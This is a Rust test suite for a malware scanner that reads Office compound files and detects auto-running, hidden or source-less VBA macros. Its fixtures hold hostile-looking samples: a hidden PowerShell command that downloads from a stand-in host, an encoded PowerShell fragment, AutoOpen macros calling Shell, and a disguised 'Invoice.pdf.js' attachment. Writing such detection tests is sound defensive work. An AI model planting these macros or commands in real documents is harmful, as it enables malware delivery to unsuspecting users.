//! Compound files: what a sound one holds, what a damaged one still holds, and what is taken out.

use std::collections::BTreeMap;
use std::io::{Cursor, Read, Write};
use std::time::{Duration, Instant};

use crate::common::office::{Compound, Module, ModuleKind, doc, doc_with_macros, vba_project, xls, xls_with_macros};
use crate::common::ovba::{compress, utf16};
use sekisho::formats::cfb::{CompoundFile, document_text};
use sekisho::knowledge::Knowledge;
use sekisho::limits::Limits;
use sekisho::part::Origin;
use sekisho::scan::{Input, Report, Stop, scan};
use sekisho::vba::project::projects;

const START: Module<'_> =
    ("ThisDocument", "Sub Document_Open()\nShell \"cmd /c dir\"\nEnd Sub\n", ModuleKind::Document);
const OTHER: Module<'_> = ("Module1", "Sub Hello()\nMsgBox \"Hello\"\nEnd Sub\n", ModuleKind::Standard);

fn report(bytes: Vec<u8>) -> Report {
    scan(Input::file(bytes, "file"), &Limits::default(), &Knowledge::default(), &Stop::default())
}

fn ids(report: &Report) -> Vec<&str> {
    report.findings.iter().map(|finding| finding.id.as_str()).collect()
}

/// Every stream by its path.
fn streams(bytes: &[u8]) -> BTreeMap<String, Vec<u8>> {
    let file = CompoundFile::open(bytes);
    file.streams().map(|(_, entry)| (file.path(entry), file.read(entry, u64::MAX).into_owned())).collect()
}

fn sources(bytes: &[u8]) -> Vec<String> {
    let projects = projects(&CompoundFile::open(bytes), u64::MAX);
    projects
        .into_iter()
        .flat_map(|project| project.modules)
        .map(|module| module.source)
        .filter(|source| !source.is_empty())
        .collect()
}

// Sound files ---------------------------------------------------------------------------------

/// Random trees, written by the crate `cfb`, read by us, by `cfb` and by `ole`.
#[test]
fn sound_files_read_as_other_readers_read_them() {
    let mut random = fastrand::Rng::with_seed(3);
    for round in 0..30 {
        let mut written = BTreeMap::new();
        let mut file = if round % 2 == 0 { Compound::new() } else { Compound::version_4() };
        for number in 0..random.usize(1..40) {
            let folder = ["", "/a", "/a/b", "/c", "/c/d/e"][random.usize(0..5)];
            let size = [0, 1, 63, 64, 65, 511, 4095, 4096, 4097, 70_000][random.usize(0..10)];
            let content: Vec<u8> = (0..size).map(|_| random.u8(..)).collect();
            file = file.stream(&format!("{folder}/s{number}"), &content);
            written.insert(format!("{folder}/s{number}")[1..].to_owned(), content);
        }
        let bytes = file.finish();
        assert!(streams(&bytes) == written, "round {round}");

        let mut oracle = cfb::CompoundFile::open(Cursor::new(&bytes)).unwrap();
        for (path, content) in &written {
            let mut read = Vec::new();
            oracle.open_stream(format!("/{path}")).unwrap().read_to_end(&mut read).unwrap();
            assert!(read == *content, "cfb, {path}");
        }
        // `ole` knows no paths, and version 3 only.
        if round % 2 == 0 {
            let oracle = ole::Reader::new(Cursor::new(&bytes)).unwrap();
            let entries: Vec<_> =
                oracle.iterate().filter(|entry| entry._type() == ole::EntryType::UserStream).collect();
            assert_eq!(entries.len(), written.len());
        }
    }
}

#[test]
fn types_are_told_by_the_directory() {
    let cases: [(Vec<u8>, &str); 7] = [
        (doc("Hello"), "ole-doc"),
        (xls(&["Hello"]), "ole-xls"),
        (vba_project(&[OTHER]), "ole-vba"),
        (Compound::new().stream("/PowerPoint Document", b"x").finish(), "ole-ppt"),
        (Compound::new().stream("/__properties_version1.0", b"x").finish(), "msg"),
        (Compound::new().stream("/EncryptedPackage", b"x").stream("/EncryptionInfo", b"x").finish(), "encrypted-ole"),
        (Compound::new().stream("/x", b"x").finish(), "ole"),
    ];
    for (bytes, expected) in cases {
        assert_eq!(report(bytes).parts[0].types[0].name(), expected);
    }
}

#[test]
fn projects_of_all_kinds_of_documents_are_found() {
    let documents = [
        vba_project(&[START, OTHER]),
        doc_with_macros("Hello", &[START, OTHER]),
        xls_with_macros(&["Hello"], &[START, OTHER]),
    ];
    for bytes in documents {
        let report = report(bytes);
        for id in ["vba-macros", "vba-autoexec", "vba-run-interpreter"] {
            assert!(ids(&report).contains(&id), "{id}: {report:?}");
        }
    }
}

#[test]
fn documents_without_code_are_clean() {
    let empty = ("ThisDocument", "Option Explicit\n", ModuleKind::Document);
    for bytes in [doc("Hello"), xls(&["Hello"]), doc_with_macros("Hello", &[empty])] {
        assert_eq!(ids(&report(bytes)), Vec::<&str>::new());
    }
}

#[test]
fn the_text_is_what_a_reader_sees() {
    let text = |bytes: &[u8]| document_text(&CompoundFile::open(bytes), u64::MAX).0;
    assert_eq!(text(&doc("コンテンツの有効化\nBitte lesen")), "コンテンツの有効化\nBitte lesen\n");
    let field = "before \u{13} HYPERLINK \"http://a.example\" \u{14}shown\u{15} after";
    assert_eq!(text(&doc(field)), "before shown after\n");
    assert_eq!(text(&xls(&["Rechnung", "請求書", ""])), "Rechnung\n請求書\n\n");
    // The table stream is gone: readable runs are better than nothing.
    let broken = Compound::new()
        .stream("/WordDocument", &[b"\xEC\xA5".to_vec(), vec![0; 30], b"Enable content".to_vec()].concat())
        .finish();
    assert!(text(&broken).contains("Enable content"));
}

#[test]
fn text_beyond_its_limit_is_told() {
    const MOST: usize = 16 << 20;
    let workbook = |size: usize| {
        // Text boxes (TxO, Continue), each of less than 8000 characters, and a line feed of ours.
        let mut stream = Vec::new();
        let mut left = size;
        while left > 0 {
            let here = left.min(8000);
            stream.extend([0xB6, 0x01, 0, 0, 0x3C, 0]);
            stream.extend((here as u16).to_le_bytes());
            stream.push(0);
            stream.extend(vec![b'x'; here - 1]);
            left -= here;
        }
        Compound::version_4().stream("/Workbook", &stream).finish()
    };
    for (size, told) in [(MOST - 2, false), (MOST - 1, false), (MOST, true), (MOST + 1, true)] {
        let (text, is_cut) = document_text(&CompoundFile::open(&workbook(size)), u64::MAX);
        assert_eq!((text.len().min(MOST), is_cut), (size.min(MOST), told), "{size}");
        let expected: &[&str] = if told { &["limit-exceeded"] } else { &[] };
        assert_eq!(ids(&report(workbook(size))), expected, "{size}");
    }
}

// Damaged files -------------------------------------------------------------------------------

#[test]
fn truncated_at_any_length_nothing_panics_and_nothing_hangs() {
    let bytes = doc_with_macros("Hello", &[START, OTHER]);
    let mut read = 0;
    for length in 0..bytes.len() {
        let report = report(bytes[..length].to_vec());
        assert!(!ids(&report).contains(&"scan-fault"), "{length}");
        read += usize::from(ids(&report).contains(&"vba-run-interpreter"));
    }
    assert!(read > 0, "the end of the file holds no source");
}

#[test]
fn mutants_do_not_panic_or_hang() {
    let mut random = fastrand::Rng::with_seed(11);
    let seeds =
        [vba_project(&[START, OTHER]), doc_with_macros("Hello", &[START]), xls_with_macros(&["a", "b"], &[OTHER])];
    let mut found = 0;
    for round in 0..3000 {
        let mut bytes = seeds[round % seeds.len()].clone();
        for _ in 0..random.usize(1..=6) {
            // Headers, FAT and directory stand in the first sectors and are worth most hits.
            let end = if random.bool() { bytes.len() } else { 4096.min(bytes.len()) };
            let at = random.usize(8..end);
            bytes[at] = [random.u8(..), 0, 0xFF, 1, 0xFE][random.usize(0..5)];
        }
        if random.u8(..12) == 0 {
            bytes.truncate(random.usize(8..bytes.len()));
        }
        let start = Instant::now();
        let report = report(bytes);
        assert!(!ids(&report).contains(&"scan-fault"), "round {round}");
        assert!(start.elapsed() < Duration::from_secs(20), "round {round}");
        found += usize::from(ids(&report).contains(&"vba-macros"));
    }
    assert!(found > 2000, "only {found} of 3000 still showed their macros");
}

/// Where the directory's entries stand that are in use.
fn directory(bytes: &[u8]) -> Vec<usize> {
    (512..bytes.len().saturating_sub(127))
        .step_by(128)
        .filter(|at| {
            let entry = &bytes[*at..*at + 128];
            let length = u16::from_le_bytes([entry[64], entry[65]]);
            matches!(entry[66], 1 | 2 | 5)
                && entry[67] <= 1
                && (4..=64).contains(&length)
                && entry[1] == 0
                && entry[3] == 0
        })
        .collect()
}

#[test]
fn swapped_siblings_blind_nobody() {
    let mut bytes = vba_project(&[START, OTHER]);
    for at in directory(&bytes) {
        bytes[at + 68..at + 76].rotate_left(4);
    }
    assert!(cfb::CompoundFile::open_strict(Cursor::new(&bytes)).is_err(), "the order is wrong now");
    assert_eq!(sources(&bytes).len(), 2);
}

#[test]
fn entries_that_no_tree_reaches_are_listed() {
    let mut bytes = vba_project(&[START, OTHER]);
    for at in directory(&bytes) {
        bytes[at + 68..at + 80].fill(0xFF);
    }
    assert_eq!(sources(&bytes).len(), 2);
    assert!(ids(&report(bytes)).contains(&"vba-run-interpreter"));
}

#[test]
fn a_directory_whose_start_is_lost_is_found_by_its_looks() {
    let mut bytes = vba_project(&[START, OTHER]);
    bytes[48..52].copy_from_slice(&0xFFFF_FFFE_u32.to_le_bytes());
    assert_eq!(sources(&bytes).len(), 2);
}

#[test]
fn without_a_fat_sectors_are_taken_to_follow_one_another() {
    let source = format!("Sub Big()\n{}End Sub\n", "MsgBox \"nothing of note\"\nx = x + 1\n".repeat(400));
    let mut random = fastrand::Rng::with_seed(5);
    let noise: String = (0..9000).map(|_| random.alphanumeric()).collect();
    let mut bytes = vba_project(&[("Module1", &format!("{source}'{noise}\n"), ModuleKind::Standard)]);
    bytes[76..512].fill(0xFF);
    assert!(sources(&bytes).iter().any(|source| source.contains(&noise)));
}

#[test]
fn cycles_in_fat_and_directory_end() {
    let mut bytes = doc_with_macros("Hello", &[START]);
    let fat = (u32::from_le_bytes(bytes[76..80].try_into().unwrap()) as usize + 1) * 512;
    for (number, entry) in bytes[fat..fat + 512].chunks_exact_mut(4).enumerate() {
        // Every sector leads to itself, every second one to its neighbour and back.
        entry.copy_from_slice(&(number as u32 ^ (number as u32 & 1)).to_le_bytes());
    }
    let start = Instant::now();
    report(bytes.clone());
    for at in directory(&bytes) {
        bytes[at + 68..at + 80].fill(0);
    }
    report(bytes);
    assert!(start.elapsed() < Duration::from_secs(20));
}

#[test]
fn many_entries_of_one_stream_cost_no_more_than_the_file() {
    let mut file = Compound::new().stream("/big", &vec![0x41; 400_000]);
    for number in 0..2000 {
        file = file.stream(&format!("/s{number}"), b"");
    }
    let mut bytes = file.finish();
    let entries = directory(&bytes);
    let big = entries.iter().copied().find(|at| bytes[*at..].starts_with(b"b\0i\0g\0")).unwrap();
    let claim = bytes[big + 116..big + 128].to_vec();
    for at in entries {
        if bytes[at + 66] == 2 {
            bytes[at + 116..at + 128].copy_from_slice(&claim);
        }
    }
    let start = Instant::now();
    let report = report(bytes);
    assert!(start.elapsed() < Duration::from_secs(20));
    assert!(ids(&report).contains(&"limit-exceeded"), "{:?}", ids(&report));
}

#[test]
fn no_directory_at_all_is_damage() {
    for bytes in [
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec(),
        [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec(), vec![0; 5000]].concat(),
    ] {
        assert_eq!(ids(&report(bytes)), ["damaged"]);
    }
}

// Projects that do not want to be read ---------------------------------------------------------

/// A project below `/Macros`, its `dir` stream replaced.
fn with_dir(dir: &[u8], module: &[u8]) -> Vec<u8> {
    Compound::new().stream("/Macros/VBA/dir", dir).stream("/Macros/VBA/Module1", module).finish()
}

#[test]
fn source_is_found_without_dir() {
    let source = compress(b"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nShell \"cmd /c dir\"\r\nEnd Sub\r\n");
    let behind_code = [vec![0x5A; 3000], source.clone()].concat();
    let raw: Vec<u8> = {
        let mut chunk =
            b"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nShell \"cmd /c dir\"\r\nEnd Sub\r\n".to_vec();
        chunk.resize(4096, b' ');
        [vec![0x01, 0xFF, 0x3F], chunk].concat()
    };
    let hidden = Compound::new().stream("/Data/Stuff", &behind_code).finish();
    for bytes in
        [with_dir(b"", &source), with_dir(b"garbage", &behind_code), with_dir(&compress(b"garbage"), &raw), hidden]
    {
        let report = report(bytes);
        assert!(ids(&report).contains(&"vba-autoexec") && ids(&report).contains(&"vba-run-interpreter"), "{report:?}");
    }
}

#[test]
fn a_module_that_dir_does_not_list_is_read_too() {
    let mut listed = Compound::new().project("/Macros", &[OTHER]);
    let source = "Attribute VB_Name = \"Hidden\"\r\nSub AutoOpen()\r\nShell p\r\nEnd Sub\r\n";
    listed = listed.stream("/Macros/VBA/Hidden", &compress(source.as_bytes()));
    assert!(ids(&report(listed.finish())).contains(&"vba-autoexec"));
}

#[test]
fn compiled_code_without_source_is_concealment() {
    let dir = crate::common::ovba::dir(1252, &[(b"Module1".to_vec(), "Module1", ModuleKind::Standard)], 6000);
    let file = Compound::new().stream("/Macros/VBA/dir", &compress(&dir)).stream("/Macros/VBA/Module1", &[0x5A; 6000]);
    let names = b"\xCC\x61\x05\0\0AutoOpen\0\x02\x05Shell\0\0";
    let report = report(file.stream("/Macros/VBA/_VBA_PROJECT", names).finish());
    for id in ["vba-no-source", "vba-autoexec", "vba-run-program"] {
        assert!(ids(&report).contains(&id), "{id}: {report:?}");
    }
}

#[test]
fn a_project_that_cannot_be_read_is_not_passed_over() {
    let file =
        Compound::new().stream("/Macros/VBA/_VBA_PROJECT", b"\xCC\x61\x05").stream("/Macros/VBA/dir", b"garbage");
    assert_eq!(ids(&report(file.stream("/Macros/VBA/Module1", &[0x5A; 900]).finish())), ["damaged"]);
}

#[test]
fn compiled_code_that_says_more_than_the_source_is_concealment() {
    let source = compress(b"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nMsgBox \"Hello\"\r\nEnd Sub\r\n");
    let compiled = [&[0xB9, 0, 22, 0][..], b"powershell -w hidden -e", &[0, 0x41, 0x40, 2], &vec![0; 500]].concat();
    let report = report(with_dir(b"", &[compiled, source].concat()));
    assert!(ids(&report).contains(&"vba-no-source"), "{report:?}");
}

#[test]
fn names_and_source_in_code_page_932() {
    let module = ("標準モジュール", "Sub 開始()\nメッセージ = \"こんにちは\" ' 表示\nEnd Sub\n", ModuleKind::Standard);
    let bytes = Compound::new().project_in_code_page("/Macros", &[module], 932).finish();
    let read = projects(&CompoundFile::open(&bytes), u64::MAX);
    assert_eq!(read[0].modules[0].name, "標準モジュール");
    assert!(read[0].modules[0].source.contains("メッセージ = \"こんにちは\" ' 表示"));
}

#[test]
fn source_beyond_all_measure_is_cut_and_reported() {
    let first = "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nShell p\r\n";
    let line = "x = 1 ' the same line again\r\n";
    // Full chunks can be repeated: each is compressed on its own.
    let chunk = |start: &str| compress(format!("{start}{}", line.repeat(200)).as_bytes().get(..4096).unwrap());
    let mut container = chunk(first);
    let repeated = chunk("");
    for _ in 0..5000 {
        container.extend(&repeated[1..]);
    }
    let report = report(with_dir(b"", &container));
    assert!(ids(&report).contains(&"limit-exceeded") && ids(&report).contains(&"vba-autoexec"), "{:?}", ids(&report));
}

#[test]
fn commands_outside_of_the_code_are_seen() {
    let reader = ("Module1", "Sub AutoOpen()\nShell UserForm1.Box.Tag\nEnd Sub\n", ModuleKind::Standard);
    let command = "powershell -w hidden -c iwr http://a.example/x";
    let in_form = Compound::new()
        .project("/Macros", &[reader])
        .stream("/Macros/UserForm1/o", &[&[0, 2, 8, 0][..], command.as_bytes(), &[0; 9]].concat());
    let in_property = Compound::new().project("/Macros", &[reader]).stream("/\u{5}SummaryInformation", &utf16(command));
    for bytes in [in_form.finish(), in_property.finish(), doc_with_macros(command, &[reader])] {
        assert!(ids(&report(bytes)).contains(&"vba-payload-outside"));
    }
    assert_eq!(ids(&report(doc(command))), Vec::<&str>::new(), "a document that only talks of a command");
}

// What is taken out ----------------------------------------------------------------------------

fn children(bytes: Vec<u8>) -> Vec<(Origin, Vec<String>, u64)> {
    report(bytes).parts.into_iter().skip(1).map(|part| (part.origin, part.names, part.size)).collect()
}

#[test]
fn packages_keep_their_names() {
    let data = b"WScript.Echo 1";
    let mut native = Vec::new();
    native.extend([2, 0]);
    native.extend(b"Invoice.pdf.js\0C:\\Users\\x\\invoice.js\0");
    native.extend([0, 0, 3, 0]);
    native.extend(9_u32.to_le_bytes());
    native.extend(b"C:\\tmp\\x\0");
    native.extend((data.len() as u32).to_le_bytes());
    native.extend(data);
    let stream = [&(native.len() as u32).to_le_bytes()[..], &native].concat();
    let file =
        Compound::new().stream("/WordDocument", b"x").stream("/ObjectPool/_1/\u{1}Ole10Native", &stream).finish();
    let names = vec!["Invoice.pdf.js".to_owned(), "invoice.js".to_owned()];
    assert_eq!(children(file), [(Origin::Embedded, names, data.len() as u64)]);
    // Cut anywhere, it is still something to look into.
    for length in 5..stream.len() {
        let file = Compound::new().stream("/ObjectPool/_1/\u{1}Ole10Native", &stream[..length]).finish();
        assert_eq!(children(file).len(), 1, "{length}");
    }
}

#[test]
fn streams_that_are_files_are_taken_out() {
    for content in [&b"PK\x03\x04zip"[..], b"{\\rtf1 x}", b"%PDF-1.7", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1x"] {
        let file = Compound::new().stream("/x/Package", content).finish();
        assert_eq!(children(file), [(Origin::Embedded, vec!["x/Package".to_owned()], content.len() as u64)]);
    }
    assert_eq!(children(Compound::new().stream("/x/Package", b"nothing of note").finish()), []);
}

#[test]
fn attachments_and_text_of_outlook_items() {
    let inner = "/__attach_version1.0_#00000000/__substg1.0_3701000D/__attach_version1.0_#00000000";
    let file = Compound::new()
        .stream("/__properties_version1.0", b"x")
        .stream("/__substg1.0_1000001F", &utf16("The password is 1234"))
        .stream("/__attach_version1.0_#00000000/__substg1.0_37010102", b"outer")
        .stream("/__attach_version1.0_#00000000/__substg1.0_3707001F", &utf16("請求書.doc"))
        .stream("/__attach_version1.0_#00000000/__substg1.0_3704001E", b"BILL.DOC")
        .stream(&format!("{inner}/__substg1.0_37010102"), b"inner!")
        .finish();
    let mut found = children(file);
    found.sort_by_key(|(_, _, size)| *size);
    let names = vec!["請求書.doc".to_owned(), "BILL.DOC".to_owned()];
    let (own, nested) = ((Origin::Attachment, names.clone(), 5), (Origin::Attachment, names, 2048));
    assert_eq!(found, [own, (Origin::Attachment, vec![], 6), (Origin::Body, vec![], 20), nested]);
}

#[test]
fn projects_of_presentations_are_inflated() {
    let project = vba_project(&[START]);
    let mut deflated = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    deflated.write_all(&project).unwrap();
    let deflated = deflated.finish().unwrap();
    let record = |instance: u16, data: &[u8]| {
        let header = [
            instance.to_le_bytes().to_vec(),
            0x1011_u16.to_le_bytes().to_vec(),
            (data.len() as u32).to_le_bytes().to_vec(),
        ]
        .concat();
        [vec![0x0F, 0, 0, 0], header, data.to_vec()].concat()
    };
    let packed = record(0x0010, &[(project.len() as u32).to_le_bytes().to_vec(), deflated].concat());
    for content in [packed.clone(), record(0, &project), [packed.clone(), packed].concat()] {
        let report = report(Compound::new().stream("/PowerPoint Document", &content).finish());
        assert!(ids(&report).contains(&"vba-run-interpreter"), "{:?}", ids(&report));
    }
}

#[test]
fn encrypted_documents_say_so_and_their_macros_are_read() {
    let mut workbook = Vec::new();
    for (id, data) in [(0x0809_u16, &[0_u8; 16][..]), (0x002F, &[0; 6]), (0x000A, &[])] {
        workbook.extend([id.to_le_bytes(), (data.len() as u16).to_le_bytes()].concat());
        workbook.extend(data);
    }
    let file = Compound::new().stream("/Workbook", &workbook).project("/_VBA_PROJECT_CUR", &[START]);
    let report_of = report(file.finish());
    assert!(ids(&report_of).contains(&"document-encrypted") && ids(&report_of).contains(&"vba-autoexec"));
    let mut word = doc("Hello");
    let fib = word.windows(2).position(|two| two == [0xEC, 0xA5]).unwrap();
    word[fib + 11] |= 1;
    assert!(ids(&report(word)).contains(&"document-encrypted"));
}
